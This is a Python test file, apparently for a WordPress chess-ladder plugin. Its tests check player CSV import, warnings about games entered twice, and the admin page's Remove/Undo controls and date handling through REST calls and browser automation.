    """hp115: a new season's members could not be imported before its first game ("games: the file holds no game"),
    each added by hand; and an import that renamed and rated players anew left only its counts in the history."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Season 2027"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    answers = rest(wordpress, users["editor"],
                   ("POST", route + "/import", {"games": "", "players": "id,name,rating\n101,Anna Berg,1820\n"
                                                                        "102,Ben Cole,1640\n"}),
                   ("POST", route + "/import", {"games": "date,white,black,result\n",
                                                "players": "id,name,rating\n101,Berg Anna,1850\n103,Cleo Dunn,\n"}),
                   ("POST", route + "/import", {"games": "", "players": ""}),
                   ("POST", route + "/import", {"games": "date,white,black,result\n"}),
                   ("GET", route, None))
    assert [200, 200, 400, 400, 200] == [status for status, _ in answers], answers
    assert [{"games": 0, "players": 2, "repeated": 0, "import": ANY},
            {"games": 0, "players": 1, "repeated": 0, "import": ANY}] == [answers[0][1], answers[1][1]]
    assert ["games", "games"] == [answers[i][1]["data"]["field"] for i in (2, 3)]
    assert [("101", "Berg Anna", "1850"), ("102", "Ben Cole", "1640"), ("103", "Cleo Dunn", "")] == [
        (p["id"], p["name"], p["rating"]) for p in answers[4][1]["players"]]
    imported = one(wordpress, users["editor"], "GET", route + "/history")[1][0]
    assert ("imported", 1, ["Cleo Dunn"]) == (imported["action"], imported["detail"]["changed"],
                                              imported["detail"]["added"])
    assert [{"before": {"id": "101", "name": "Anna Berg", "rating": "1820", "active": True},
             "after": {"id": "101", "name": "Berg Anna", "rating": "1850", "active": True}}] == (
        imported["detail"]["changes"])


def test_a_game_the_ladder_has_already_is_said_to_its_keeper(wordpress: WordPress, users: dict[str, int]) -> None:
    """hp115: the same game entered twice was answered "Saved" to the keeper, while the ladder's page then told every
    visitor of a game "entered twice?". The answer says how many such games the ladder had already."""
    _, route = with_one_game(wordpress, users["editor"], "Twice")
    game = {"date": "2026-03-01", "white": "Anna", "black": "Ben", "result": "1-0"}
    answers = rest(wordpress, users["editor"], *[("POST", route + "/games", sent) for sent in (
        game, game, {**game, "pool": "B"}, {**game, "result": "0"})])
    assert [(201, 1), (201, 2), (201, 0), (201, 0)] == [(status, answer["again"]) for status, answer in answers]
    edited = one(wordpress, users["editor"], "PUT", f"{route}/games/{answers[0][1]['id']}", {"result": "0.5"})
    assert 200 == edited[0] and "again" not in edited[1]


def test_the_admin_page_removes_a_mistyped_player_says_a_game_entered_twice_and_keeps_to_the_site_s_day(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """hp115, on the admin page: a player with no game has a Remove (with its Undo), one with games none; a result the
    ladder had already is saved with a word to the keeper; and the date fields follow the site's day in a tab left
    open (they kept the day it was opened: the next day's results were refused as after their latest date, and the
    result's date offered was yesterday's)."""
    ladder, route = with_one_game(wordpress, users["editor"], "Keeper's page")
    assert 201 == one(wordpress, users["editor"], "POST", route + "/players", {"name": "Bbo"})[0]
    day = {n: wordpress.php(f"echo wp_date('Y-m-d', time() + {n} * DAY_IN_SECONDS);") for n in (0, 1, 2, 3)}
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder["slug"]))
        status = page.get_by_role("status")
        players = page.get_by_role("table").filter(has=page.get_by_role("columnheader", name="Active"))
        expect(players.get_by_role("button")).to_have_count(1)  # Bbo's: Anna's and Ben's have games
        page.get_by_role("button", name="Remove Bbo").click()
        expect(status).to_have_text("Removed: Bbo Undo")
        expect(page.get_by_role("heading", name="Players (2)")).to_be_visible()
        expect(page.locator("#elo-player-name")).to_be_focused()  # the form to add a player: Bbo's row is gone
        status.get_by_role("button", name="Undo").click()
        expect(status).to_have_text("Saved: Bbo")
        expect(page.get_by_role("heading", name="Players (3)")).to_be_visible()

        page.locator("#elo-date").fill("2026-03-01")
        page.get_by_label("White (first player)").fill("Anna")
        page.get_by_label("Black (second player)").fill("Ben")
        page.get_by_role("button", name="White won 1-0").click()
        expect(status).to_contain_text("Saved: 2026-03-01 Anna – Ben 1-0 The ladder had this game already")
        expect(page.locator("#elo-date")).to_have_value("2026-03-01")  # the last result's date, for the next one

        # Two days on, the tab still open: the next result offers the new day, and every date field takes the next.
        page.get_by_role("button", name="Edit 2026-03-01 Anna – Ben 1-0").first.click()  # its row's date field too
        assert [day[1]] * 2 == page.locator("input[type=date]").evaluate_all("(inputs) => inputs.map((i) => i.max)")
        page.clock.set_system_time(time.time() + 2 * 86400)
        page.locator("#elo-black").focus()  # the keeper back at the form (White had the keyboard)
        expect(page.locator("#elo-date")).to_have_value(day[2])
        assert [day[3]] * 2 == page.locator("input[type=date]").evaluate_all("(inputs) => inputs.map((i) => i.max)")
        assert "2026-03-01" == one(wordpress, users["editor"], "GET", route)[1]["games"][0]["date"]
    finally:
        context.close()
